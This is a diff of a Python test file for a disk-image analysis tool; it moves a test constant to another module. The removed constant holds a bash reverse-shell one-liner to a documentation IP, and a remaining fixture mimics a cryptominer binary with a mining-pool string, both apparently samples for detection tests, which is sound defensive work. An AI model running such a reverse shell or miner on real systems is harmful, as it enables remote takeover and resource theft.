@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 from conftest import VOLUME
 from disks import Slot, file_system, gpt
+from ext_layout_images import SCRIPT
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -23,7 +24,6 @@ from clean_room_analysis.raw_tree import RawTree
 
 MINER = b"\x7fELF" + b"\0" * 60 + b"stratum+tcp://pool.example:3333 xmrig donate-level"
 _EXT = file_system()
-SCRIPT = b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"
 
 
 def walked(disk: bytes, kind: str) -> list[str]:
